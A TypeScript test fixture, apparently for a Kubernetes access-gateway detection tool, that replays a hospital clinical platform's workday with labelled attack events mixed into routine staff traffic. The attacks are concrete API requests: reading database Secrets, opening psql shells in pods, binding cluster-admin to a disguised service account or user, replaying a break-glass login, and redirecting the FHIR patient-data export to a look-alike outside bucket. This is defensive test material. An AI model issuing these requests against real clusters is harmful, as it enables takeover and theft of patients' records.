import { attackKit, type AttackRequest, type DayEvent, jitteredSittings, lastScoredOf, LINUX, type Login, podName, prng, type StaffMember, WIN, withAttacks, WS_UPGRADE } from './workday.js';
import { chromium, signInAt, sittings, type SittingRequest } from './sittings.js';

/**
 * A forty-fourth replayed day, written as an outside red team and an outside observer of real
 * engineers would after reading docs/risk.md, docs/configuration.md, docs/kubectl-stepup.md and
 * docs/guardrails.md, from a situation days 1–43 do not have: a hospital group's clinical platform
 * (St Mary's Health, Leeds; production `kubernetes.prod.clin.stmarys-health.example`, its disaster
 * recovery standby `kubernetes.dr.clin.stmarys-health.example`, the wards' board
 * `wards.clin.stmarys-health.example`) on a regulated cluster pair. Days 15, 34 and 40 had
 * break-glass accounts, clusters per customer and a vendor's screen-share; what is new here is a
 * quarterly disaster-recovery test run on the standby (a cluster nobody writes to the rest of the
 * quarter), clinical-app developers on a non-persistent Windows VDI pool that shares one egress
 * address with the nurses' browsers, an integration engineer moving HL7 interfaces at night from
 * home during a cut-over, a vendor's support engineer through the hospital's bastion (session
 * recorded; the bastion's address and its kubectl for every vendor), and the break-glass account
 * used for real while the identity provider's federation to the hospital's directory is degraded.
 * Warm-up Tuesday 9 March 2027, scored Wednesday 10 March (hours UTC; Leeds is UTC+0 in March).
 *
 * The site's edit of the example (`SITE`) names its two clusters in `kubernetes.clusters` (as
 * configuration.md says a gateway in front of several clusters needs), and (since session 49) the
 * FHIR export's bucket in `guardrails.upload_hosts`, as docs/guardrails.md says a site whose
 * workloads ship data out lists where they may. Nothing else is changed.
 *
 * Routine, as the tools send it:
 * - two platform engineers (hardware keys, Linux, office): plat-1 runs the quarterly DR test on the
 *   scored day 13:00–15:15 (Velero restores on the standby, the clinical Deployments scaled up
 *   there, then back to zero); plat-2 checks the standby's replication every morning (reads) and
 *   is on call from home in the evening;
 * - the security engineer (hardware key): events, RBAC lists, the audit namespace;
 * - four clinical-app developers (two factors) on the VDI pool's Windows desktops (one egress
 *   address): their service's pods, logs, events, ConfigMaps, a rollout restart in their test
 *   namespace;
 * - two integration engineers (two factors): int-1 by day in the office and on the scored day's
 *   night from home, 21:00–23:30, the cut-over of the lab's HL7 interfaces (Mirth Connect's channel
 *   ConfigMap, its restart, its MLLP TLS Secret, a port-forward to its admin port); int-2 by day:
 *   the FHIR server's pods and logs, `kubectl create job --from=cronjob/fhir-bulk-export` once a day;
 * - the PACS vendor's support engineer (two factors), through the bastion, during the ticket's
 *   window (warm-up 10:00–11:30, scored 13:00–15:00): the viewer's pods, logs, a restart;
 * - two nurses (two factors) on the same VDI pool: the wards' board in the browser, nothing else;
 * - the vault's break-glass account (its hardware key), taken out by plat-2 while the federation is
 *   degraded (warm-up 10:05–10:45, scored 07:30–08:00): pods, events, the IdP's own pods, a restart;
 * - CI (`ci:clin-deployer`): the test namespaces' images every 45 minutes by day.
 *
 * The attacks, each written after reading what stepgate looks at:
 * - the vendor's session on the bastion reused at 16:40, after the ticket closed at 15:00 but within
 *   the contract's hours: the viewer's database Secret, a shell in its database (the bastion's
 *   address, its kubectl, the vendor's token refreshed there);
 * - malware on int-2's laptop: the FHIR bulk-export CronJob's target changed to an outside bucket
 *   with a look-alike name (the export copies every patient's record there at 02:00);
 * - the same malware earlier, at 11:10: a Job made from the export CronJob, as int-2's own
 *   `kubectl create job --from=cronjob/fhir-bulk-export` at 09:18 is, with the look-alike bucket;
 * - a VDI pool neighbour given dev-1's desktop without a sign-out (the kubelogin cache in the
 *   roaming profile): orders' database Secret, then a shell in the database;
 * - malware on plat-1's laptop during the DR test: a ClusterRoleBinding to cluster-admin for a
 *   service account named as the DR tooling's, on the standby;
 * - the break-glass account's password and OTP seed, seen over plat-2's shoulder on the warm-up day
 *   (the vault's envelope), replayed from the VDI pool the day after: a fresh two-factor sign-in,
 *   Secrets in orders, then a ClusterRoleBinding.
 */

export const D44_TUE = Date.UTC(2027, 2, 9, 0, 0, 0); // warm-up
export const D44_WED = Date.UTC(2027, 2, 10, 0, 0, 0); // scored
const [H, M, S] = [3_600_000, 60_000, 1000];

/** Production's API, under the example's `kubernetes.**` hosts. */
export const API = 'kubernetes.prod.clin.stmarys-health.example';
/** The disaster-recovery standby's API (Velero restores, replicas at zero between tests). */
export const DR_API = 'kubernetes.dr.clin.stmarys-health.example';
/** The wards' board (a web app behind the same gateway; not a Kubernetes API host). */
export const WARDS = 'wards.clin.stmarys-health.example';
export const KUBECTL = (os: string) => `kubectl/v1.30.6 (${os}) kubernetes/00f20d4`;
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.92`;
const CH_UA = '"Chromium";v="122", "Not(A:Brand";v="24", "Microsoft Edge";v="122"';
const MERGE = { 'content-type': 'application/merge-patch+json' };
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const JSON_CT = { 'content-type': 'application/json' };
export const WS_PF = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' };

export const nameOf = (short: string) => `d44-${short}@stmarys-health.example`;
export const VENDOR = 'd44-tse@pacs-vendor.example';
/** The vault's break-glass account for the clinical clusters. */
export const BREAKGLASS = 'breakglass-clin@stmarys-health.example';

/** The platform team's office network. */
export const OFFICE = '81.144.200.12';
/** The VDI pool's one egress address: developers and nurses alike. */
export const VDI = '81.144.203.17';
/** The hospital's bastion (session recording): every vendor's requests come from it. */
export const BASTION = '81.144.201.5';
export const HOME: Readonly<Record<string, string>> = { 'int-1': '86.12.44.201', 'plat-2': '92.40.176.9' };
export const CI_IP = (j: number) => `10.44.2.${20 + (j % 4)}`;

type Kind = 'plat' | 'sec' | 'dev' | 'int' | 'vendor' | 'nurse' | 'bg';
type Where = 'office' | 'home' | 'vdi' | 'bastion';

interface Person extends StaffMember<Where> {
  short: string;
  kind: Kind;
  ua: string;
  acr: Login['acr'];
  ns: string;
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, name: string, kind: Kind, ns: string, os: string, acr: Login['acr'], warm: [number, number, Where][], scored: [number, number, Where][]) => {
    const kubectlOs = os === LINUX ? 'linux/amd64' : 'windows/amd64';
    out.push({ name, short, idx: out.length, svc: kind, kind, ns, ua: KUBECTL(kubectlOs), os, kubectlOs, kubectlVersion: 'v1.30.6', acr, warm: jitteredSittings(rand, warm), scored: jitteredSittings(rand, scored) });
  };
  const vdiDay: [number, number, Where][] = [[8, 12, 'vdi'], [12.75, 16.5, 'vdi']];
  add('plat-1', nameOf('plat-1'), 'plat', 'platform', LINUX, 'urn:stepgate:aal3', [[7.5, 16.5, 'office']], [[7.5, 16.5, 'office']]);
  add('plat-2', nameOf('plat-2'), 'plat', 'platform', LINUX, 'urn:stepgate:aal3', [[8, 16, 'office']], [[8.25, 16, 'office'], [19, 21.5, 'home']]);
  add('sec-1', nameOf('sec-1'), 'sec', 'audit', LINUX, 'urn:stepgate:aal3', [[8.5, 16.5, 'office']], [[8.5, 16.5, 'office']]);
  add('dev-1', nameOf('dev-1'), 'dev', 'clin-orders', WIN, 'urn:stepgate:aal2', vdiDay, [[8, 12, 'vdi'], [13.5, 16.5, 'vdi']]);
  add('dev-2', nameOf('dev-2'), 'dev', 'clin-pharmacy', WIN, 'urn:stepgate:aal2', vdiDay, vdiDay);
  add('dev-3', nameOf('dev-3'), 'dev', 'clin-results', WIN, 'urn:stepgate:aal2', vdiDay, vdiDay);
  add('dev-4', nameOf('dev-4'), 'dev', 'clin-theatres', WIN, 'urn:stepgate:aal2', [[9, 13, 'vdi'], [14, 17, 'vdi']], [[9, 13, 'vdi'], [14, 17, 'vdi']]);
  add('int-1', nameOf('int-1'), 'int', 'integration', LINUX, 'urn:stepgate:aal2', [[9, 12, 'office'], [13, 16, 'office']], [[9, 12, 'office'], [21, 23.5, 'home']]);
  add('int-2', nameOf('int-2'), 'int', 'fhir', LINUX, 'urn:stepgate:aal2', [[8, 12, 'office'], [13, 16.5, 'office']], [[8, 12, 'office'], [13, 16.5, 'office']]);
  add('tse', VENDOR, 'vendor', 'pacs-viewer', LINUX, 'urn:stepgate:aal2', [[10, 11.5, 'bastion']], [[13, 15, 'bastion']]);
  add('nurse-1', nameOf('nurse-1'), 'nurse', 'wards', WIN, 'urn:stepgate:aal2', [[7, 12, 'vdi'], [12.5, 15, 'vdi']], [[7, 12, 'vdi'], [12.5, 15, 'vdi']]);
  add('nurse-2', nameOf('nurse-2'), 'nurse', 'wards', WIN, 'urn:stepgate:aal2', [[11, 15, 'vdi'], [15.5, 19, 'vdi']], [[11, 15, 'vdi'], [15.5, 19, 'vdi']]);
  add('bg', BREAKGLASS, 'bg', 'platform', LINUX, 'urn:stepgate:aal3', [[10.08, 10.75, 'office']], [[7.5, 8, 'office']]);
  return out;
}

const addressOf = (p: Person, where: Where): string => (where === 'office' ? OFFICE : where === 'vdi' ? VDI : where === 'bastion' ? BASTION : HOME[p.short]!);

type Req = SittingRequest;

const SECRET = (ns: string, name: string) => `/api/v1/namespaces/${ns}/secrets/${name}`;
const DEPLOY = (ns: string, name: string) => `/apis/apps/v1/namespaces/${ns}/deployments/${name}`;
const JOBS = (ns: string) => `/apis/batch/v1/namespaces/${ns}/jobs`;
export const EXPORT_CRONJOB = '/apis/batch/v1/namespaces/fhir/cronjobs/fhir-bulk-export';
const RESTORES = '/apis/velero.io/v1/namespaces/velero/restores';
const CLIN = ['clin-orders', 'clin-pharmacy', 'clin-results', 'clin-theatres'] as const;

/** `kubectl rollout restart deployment/<name>`: the annotation kubectl writes, as a strategic merge patch. */
export const restart = (ns: string, name: string, at: number): Req => ({ method: 'PATCH', path: `${DEPLOY(ns, name)}?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': new Date(at).toISOString().replace(/\.\d+Z$/, 'Z') } } } } }) });

/** A clinical-app developer on the VDI desktop: their service's pods, logs, events, ConfigMap, a test restart. */
function devTask(rand: () => number, p: Person, n: number, t: number): Req[] {
  const k = rand();
  const ns = p.ns;
  const app = ns.replace('clin-', '');
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.55) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${podName(`${app}-api`, n % 3)}/log?container=api&tailLines=300` }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.82) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps/${app}-api-config` }];
  if (k < 0.92) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}-test/pods?limit=500` }];
  return [restart(`${ns}-test`, `${app}-api`, t), { method: 'GET', path: `${DEPLOY(`${ns}-test`, `${app}-api`)}` }];
}

/** A platform engineer: nodes, the platform's pods, the standby's replication (reads on the DR cluster). */
function platTask(rand: () => number, p: Person, n: number): Req[] {
  const k = rand();
  if (k < 0.25) return [{ method: 'GET', path: '/api/v1/nodes' }];
  if (k < 0.45) return [{ method: 'GET', path: '/api/v1/namespaces/platform/pods?limit=500' }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${CLIN[n % 4]}/pods?limit=500` }];
  if (k < 0.72) return [{ method: 'GET', path: '/api/v1/events?limit=500&fieldSelector=type%3DWarning' }];
  if (k < 0.85 && p.short === 'plat-2') return [{ method: 'GET', host: DR_API, path: '/apis/velero.io/v1/namespaces/velero/backups?limit=50' }, { method: 'GET', host: DR_API, path: '/api/v1/nodes' }];
  return [{ method: 'GET', path: `/api/v1/namespaces/platform/pods/${podName('ingress-nginx', n % 3)}/log?tailLines=200` }];
}

/** The security engineer: warnings, RBAC, the audit shipper. */
function secTask(rand: () => number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/events?limit=500&fieldSelector=type%3DWarning' }];
  if (k < 0.55) return [{ method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings' }];
  if (k < 0.75) return [{ method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/rolebindings?limit=500' }];
  return [{ method: 'GET', path: '/api/v1/namespaces/audit/pods?limit=500' }];
}

/** An integration engineer by day: Mirth Connect's or the FHIR server's pods and logs. */
function intTask(rand: () => number, p: Person, n: number): Req[] {
  const k = rand();
  const app = p.ns === 'fhir' ? 'hapi-fhir' : 'mirth-connect';
  if (k < 0.35) return [{ method: 'GET', path: `/api/v1/namespaces/${p.ns}/pods?limit=500` }];
  if (k < 0.75) return [{ method: 'GET', path: `/api/v1/namespaces/${p.ns}/pods/${podName(app, n % 2)}/log?tailLines=500` }];
  if (k < 0.88 && p.ns === 'fhir') return [{ method: 'GET', path: EXPORT_CRONJOB }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${p.ns}/events?limit=500` }];
}

/** The PACS vendor's support engineer through the bastion: the viewer's pods and logs. */
function vendorTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.35) return [{ method: 'GET', path: '/api/v1/namespaces/pacs-viewer/pods?limit=500' }];
  if (k < 0.8) return [{ method: 'GET', path: `/api/v1/namespaces/pacs-viewer/pods/${podName('viewer', n % 2)}/log?container=viewer&tailLines=500` }];
  return [{ method: 'GET', path: '/api/v1/namespaces/pacs-viewer/configmaps/viewer-config' }];
}

/** A nurse: the wards' board in the browser (the board polls every minute or so while it is open). */
function nurseTask(rand: () => number): Req[] {
  const ward = ['4B', '7A', 'AMU', 'ICU'][Math.floor(rand() * 4)]!;
  return [{ method: 'GET', host: WARDS, path: `/board/${ward}`, browser: true }, { method: 'GET', host: WARDS, path: `/api/wards/${ward}/patients?view=board`, browser: true }];
}

/** The break-glass account while the federation is degraded: what is broken, and the IdP's own pods. */
function bgTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.4) return [{ method: 'GET', path: '/api/v1/namespaces/identity/pods?limit=500' }];
  if (k < 0.75) return [{ method: 'GET', path: `/api/v1/namespaces/identity/pods/${podName('keycloak', n % 2)}/log?tailLines=300` }];
  return [{ method: 'GET', path: '/api/v1/events?limit=500&fieldSelector=type%3DWarning' }];
}

/** The FHIR bulk export as it runs nightly: to the trust's own bucket. */
export const EXPORT_BUCKET = 's3://stmarys-fhir-exports/daily';
/** The look-alike: another account's bucket the export's role can also write to (a bucket policy on its side). */
export const OUTSIDE_BUCKET = 's3://stmarys-fhir-export/daily';
export const exportPatch = (bucket: string): string => JSON.stringify({ spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'exporter', args: ['--since', '24h', '--resource-types', 'Patient,Encounter,Observation,MedicationRequest', '--out', bucket] }] } } } } } });

/** `kubectl create job --from=cronjob/fhir-bulk-export`: the CronJob's template as a Job, writing to `bucket`. */
export const exportJob = (name: string, bucket: string): string =>
  JSON.stringify({ kind: 'Job', apiVersion: 'batch/v1', metadata: { name, namespace: 'fhir', annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' }, ownerReferences: [{ apiVersion: 'batch/v1', kind: 'CronJob', name: 'fhir-bulk-export', uid: '2b7c9e10-5d4a-4f1e-9c3b-7a8d6e5f4c21', controller: true }] }, spec: { backoffLimit: 1, template: { spec: { restartPolicy: 'Never', serviceAccountName: 'fhir-exporter', containers: [{ name: 'exporter', image: 'registry.clin.stmarys-health.example/integration/fhir-exporter:2.3.1', args: ['--since', '24h', '--resource-types', 'Patient,Encounter,Observation,MedicationRequest', '--out', bucket] }] } } } });

/** The DR tooling's binding as the attacker names it: cluster-admin for a service account on the standby. */
export const drBinding = JSON.stringify({
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRoleBinding',
  metadata: { name: 'velero-dr-restore', labels: { 'app.kubernetes.io/part-of': 'dr-test' } },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  subjects: [{ kind: 'ServiceAccount', name: 'velero-dr', namespace: 'velero' }],
});

/** A Velero Restore of the clinical namespaces from the latest replicated backup. */
export const restore = (name: string): string => JSON.stringify({ apiVersion: 'velero.io/v1', kind: 'Restore', metadata: { name, namespace: 'velero' }, spec: { backupName: 'clin-nightly-20270310020000', includedNamespaces: [...CLIN, 'integration', 'fhir'], restorePVs: true } });


/**
 * The site names its two clusters (production and the DR standby) in kubernetes.clusters, and its
 * PACS vendor's contract hours as the example's vendor-support-hours names the POS vendor's.
 */
export function SITE(yaml: string): string {
  const hosts = '  hosts: [kube.localhost, kubernetes, "kubernetes.**"]\n';
  const rules = '\n  rules:\n';
  if (!yaml.includes(hosts) || yaml.split(rules).length !== 2) throw new Error('day 44: the example no longer has its kubernetes.hosts line or one policy.rules');
  const owners = '\n  host_owners:\n';
  const at = yaml.indexOf(owners);
  if (at < 0) throw new Error('day 44: the example no longer has guardrails.host_owners');
  // Where the clinical platform's workloads may upload: the FHIR bulk export's own bucket.
  const uploads = `  upload_hosts: ["${EXPORT_BUCKET.split('/').slice(0, 3).join('/')}"]\n`;
  return `${yaml.slice(0, at + 1)}${uploads}${yaml.slice(at + 1)}`
    .replace(hosts, `${hosts}  clusters:\n    - { name: clin-prod, hosts: [${API}] }\n    - { name: clin-dr, hosts: [${DR_API}] }\n`)
    .replace(rules, `${rules}${VENDOR_HOURS}`);
}

/** The PACS vendor's support contract's hours, written as the example's vendor-support-hours is. */
const VENDOR_HOURS = `    - name: pacs-vendor-support-hours
      description: the PACS vendor's support accounts act within the support contract's hours, Monday to Friday 08:00 to 18:00 UK time
      match:
        subjects: ["*@pacs-vendor.example"]
        outside_hours:
          time_zone: Europe/London
          windows: [{days: [mon, tue, wed, thu, fri], from: "07:30", to: "18:30"}]
      deny: true
      message: the PACS vendor's support accounts act Monday to Friday, 08:00 to 18:00 UK time; outside those hours ask the service desk
`;

export function workday44(seed = 421): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 44);
  const people = staff(rand);
  const events: DayEvent[] = [];
  const replay = sittings<Where, Person>(rand, people, {
    events,
    api: API,
    addressOf: (p, where) => addressOf(p, where),
    usualPlace: () => 'office',
    browser: chromium(CHROME, CH_UA),
  });
  for (const [day, scored] of [[D44_TUE, false], [D44_WED, true]] as const) {
    const { at, push } = replay(day, scored, {
      task: (p, n, t) =>
        p.kind === 'dev' ? devTask(rand, p, n, t) : p.kind === 'plat' ? platTask(rand, p, n) : p.kind === 'sec' ? secTask(rand) : p.kind === 'int' ? intTask(rand, p, n) : p.kind === 'vendor' ? vendorTask(rand, n) : p.kind === 'nurse' ? nurseTask(rand) : bgTask(rand, n),
      pace: (p) => (p.kind === 'nurse' ? [3, 6] : p.kind === 'bg' ? [2, 5] : p.kind === 'plat' ? [6, 14] : [8, 22]),
      // The night's cut-over is its own plan (below); the integration engineer's sitting is that.
      skip: (p, where) => p.kind === 'int' && where === 'home',
    });
    const by = (s: string) => people.find((p) => p.short === s)!;
    const [plat1, int1, int2, tse, bg] = [by('plat-1'), by('int-1'), by('int-2'), by('tse'), by('bg')];
    // The break-glass account restarts the IdP's federation broker once it has read what is wrong.
    push(bg, at(scored ? 7.75 : 10.4), [restart('identity', 'keycloak-broker', at(scored ? 7.75 : 10.4))], S);
    // The vendor's ticket: the viewer restarted once the fix is in its ConfigMap.
    push(tse, at(scored ? 14.2 : 11), [{ method: 'PATCH', path: '/api/v1/namespaces/pacs-viewer/configmaps/viewer-config', headers: MERGE, body: JSON.stringify({ data: { 'DICOM_TIMEOUT_SECONDS': '120' } }) }, restart('pacs-viewer', 'viewer', at(scored ? 14.2 : 11))], 45 * S);
    // The FHIR bulk export run by hand once a day after the morning's check.
    const stamp = scored ? 'w' : 't';
    push(int2, at(9.3), [{ method: 'POST', path: JOBS('fhir'), headers: JSON_CT, body: exportJob(`fhir-bulk-export-manual-${stamp}`, EXPORT_BUCKET) }, { method: 'GET', path: `${JOBS('fhir')}/fhir-bulk-export-manual-${stamp}` }], 20 * S);
    if (scored) {
      // The night's cut-over: the lab's HL7 interfaces moved to the new LIMS, from home.
      const night: [number, Req[]][] = [
        [21.1, [{ method: 'GET', path: '/api/v1/namespaces/integration/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/integration/configmaps/mirth-channels' }]],
        [21.3, [{ method: 'GET', path: SECRET('integration', 'hl7-mllp-tls') }]],
        [21.45, [{ method: 'PATCH', path: '/api/v1/namespaces/integration/configmaps/mirth-channels', headers: MERGE, body: JSON.stringify({ data: { 'lab-results-inbound.xml': '<channel><name>lab-results-inbound</name><sourceConnector><properties><listenerConnectorProperties><port>6661</port></listenerConnectorProperties></properties></sourceConnector><destinationConnectors><connector><name>lims-winpath-v2</name></connector></destinationConnectors></channel>' } }) }, restart('integration', 'mirth-connect', at(21.45))]],
        [21.7, [{ method: 'GET', path: `/api/v1/namespaces/integration/pods/${podName('mirth-connect', 1)}/portforward?ports=8443`, headers: WS_PF }]],
        [22.2, [{ method: 'GET', path: `/api/v1/namespaces/integration/pods/${podName('mirth-connect', 1)}/log?tailLines=1000` }]],
        [22.6, [{ method: 'GET', path: `/api/v1/namespaces/integration/pods/${podName('mirth-connect', 1)}/log?tailLines=1000` }, { method: 'GET', path: '/api/v1/namespaces/integration/events?limit=500' }]],
        [23.2, [{ method: 'GET', path: '/api/v1/namespaces/integration/pods?limit=500' }]],
      ];
      for (const [h, reqs] of night) push(int1, at(h), reqs, 20 * S);
      // The quarterly DR test on the standby: restores, the clinical Deployments scaled up, checked, scaled back.
      push(plat1, at(13.05), [{ method: 'GET', host: DR_API, path: '/api/v1/nodes' }, { method: 'GET', host: DR_API, path: '/apis/velero.io/v1/namespaces/velero/backups?limit=50' }, { method: 'POST', host: DR_API, path: RESTORES, headers: JSON_CT, body: restore('dr-test-2027q1') }], 40 * S);
      push(plat1, at(13.5), [{ method: 'GET', host: DR_API, path: `${RESTORES}/dr-test-2027q1` }], S);
      CLIN.forEach((ns, i) => {
        const app = `${ns.replace('clin-', '')}-api`;
        push(plat1, at(13.7 + i * 0.08), [{ method: 'PATCH', host: DR_API, path: `${DEPLOY(ns, app)}/scale`, headers: MERGE, body: JSON.stringify({ spec: { replicas: 3 } }) }, { method: 'GET', host: DR_API, path: `/api/v1/namespaces/${ns}/pods?limit=500` }], 30 * S);
      });
      push(plat1, at(14.3), [{ method: 'GET', host: DR_API, path: '/api/v1/events?limit=500&fieldSelector=type%3DWarning' }], S);
      CLIN.forEach((ns, i) => {
        const app = `${ns.replace('clin-', '')}-api`;
        push(plat1, at(15 + i * 0.05), [{ method: 'PATCH', host: DR_API, path: `${DEPLOY(ns, app)}/scale`, headers: MERGE, body: JSON.stringify({ spec: { replicas: 0 } }) }], S);
      });
    }
    // CI: the test namespaces' images by day.
    const ci: Login = { sub: 'system:serviceaccount:ci:clin-deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
    for (let j = 0; j < 12; j++) {
      const t = day + 8 * H + j * 45 * M;
      const ns = `${CLIN[j % 4]}-test`;
      const app = `${CLIN[j % 4]!.replace('clin-', '')}-api`;
      const version = (seed * 7919 + j * 104729 + (scored ? 1 : 0)).toString(16).slice(0, 7);
      const base = { actor: 'ci', scored, ip: CI_IP(j), ua: KUBECTL('linux/amd64'), login: ci, host: API };
      events.push({ ...base, at: t, method: 'PATCH', path: DEPLOY(ns, app), headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: `registry.clin.stmarys-health.example/clin/${app}:${version}` }] } } } }) });
      events.push({ ...base, at: t + 30 * S, method: 'GET', path: DEPLOY(ns, app) });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks44(people, events));
}

/** The attack rows' names, as the matrix and the targets name them. */
export const A44 = {
  vendor: "the vendor's session on the bastion reused at 16:40, after the ticket closed, within the contract's hours: the viewer's database Secret, a shell in its database",
  exportJob: "malware on int-2's laptop at 11:10: the export run by hand to the outside bucket, in the shape of int-2's own morning `create job --from=cronjob`",
  fhirExport: "malware on int-2's laptop: the FHIR bulk-export CronJob's target changed to an outside look-alike bucket",
  vdi: "a VDI pool neighbour given dev-1's desktop without a sign-out: orders' database Secret, a shell in the database",
  drBinding: "malware on plat-1's laptop during the DR test: a cluster-admin ClusterRoleBinding on the standby for a service account named as the DR tooling's",
  breakglass: "the break-glass account's password and OTP seed replayed from the VDI pool the day after its use: Secrets in orders, a ClusterRoleBinding",
} as const;

function attacks44(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on, to } = attackKit(out, people, D44_WED, API);

  // 1. The vendor's session on the bastion, reused at 16:40 (the ticket closed at 15:00; the contract's hours run to 18:00).
  const tse = by('tse');
  const v1 = lastScoredOf(routine, tse.name, T(16.67), (e) => e.ua.startsWith('kubectl'));
  add(A44.vendor, T(16.67), BASTION, v1.ua, v1.login, on([
    ['GET', '/api/v1/namespaces/pacs-viewer/pods?limit=500', false],
    ['GET', SECRET('pacs-viewer', 'viewer-db'), true],
    ['POST', `/api/v1/namespaces/pacs-viewer/pods/viewer-db-0/exec?command=psql&command=-U&command=pacs&container=postgres&stdin=true&stdout=true&tty=true`, true, WS_UPGRADE],
  ]), 30 * S, tse);

  // 2. int-2's laptop at 16:05: the export's target changed (the nightly run at 02:00 copies it out).
  const int2 = by('int-2');
  const v2 = lastScoredOf(routine, int2.name, T(16.08), (e) => e.ua.startsWith('kubectl'));
  add(A44.fhirExport, T(16.08), v2.ip, v2.ua, v2.login, on([
    ['GET', EXPORT_CRONJOB, false],
    ['PATCH', EXPORT_CRONJOB, true, SMP, exportPatch(OUTSIDE_BUCKET)],
  ]), 40 * S, int2);

  // 2b. The same malware at 11:10: the export run by hand, as int-2 runs it every morning, to the look-alike bucket.
  const v2b = lastScoredOf(routine, int2.name, T(11.17), (e) => e.ua.startsWith('kubectl'));
  add(A44.exportJob, T(11.17), v2b.ip, v2b.ua, v2b.login, on([
    ['POST', JOBS('fhir'), true, JSON_CT, exportJob('fhir-bulk-export-manual-x7', OUTSIDE_BUCKET)],
    ['GET', `${JOBS('fhir')}/fhir-bulk-export-manual-x7`, false],
  ]), 20 * S, int2);

  // 3. dev-1's desktop handed to a neighbour at 12:40 (dev-1 at lunch): the VDI's address, kubectl, dev-1's token.
  const dev1 = by('dev-1');
  const v3 = lastScoredOf(routine, dev1.name, T(12.67), (e) => e.ua.startsWith('kubectl'));
  add(A44.vdi, T(12.67), VDI, v3.ua, v3.login, on([
    ['GET', SECRET('clin-orders', 'orders-db'), true],
    ['POST', '/api/v1/namespaces/clin-orders/pods/orders-db-0/exec?command=psql&command=-U&command=orders&container=postgres&stdin=true&stdout=true&tty=true', true, WS_UPGRADE],
  ]), 40 * S, dev1);

  // 4. plat-1's laptop at 13:55, in the middle of the DR test: cluster-admin for a "DR" service account on the standby.
  const plat1 = by('plat-1');
  const v4 = lastScoredOf(routine, plat1.name, T(13.92), (e) => e.host === DR_API);
  add(A44.drBinding, T(13.92), OFFICE, v4.ua, v4.login, to(DR_API, [
    ['GET', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?labelSelector=app.kubernetes.io%2Fpart-of%3Ddr-test', false],
    ['POST', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', true, JSON_CT, drBinding] as AttackRequest,
  ]), 20 * S, plat1);

  // 5. The break-glass account's password and OTP seed, replayed the day after from the VDI pool at 17:20: a fresh two-factor sign-in.
  const bg = by('bg');
  const replayed = signInAt(bg.name, `${bg.name}:replay`, T(17.33) - 60 * S, 'urn:stepgate:aal2');
  add(A44.breakglass, T(17.33), VDI, KUBECTL('windows/amd64'), replayed, on([
    ['GET', '/api/v1/namespaces/clin-orders/secrets?limit=500', true],
    ['POST', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', true, JSON_CT, JSON.stringify({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'support-readers' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'd44-dev-3@stmarys-health.example' }] })],
  ]), 30 * S);
  for (const e of out) if (e.attack === A44.breakglass) e.signsIn = true;
  return out;
}
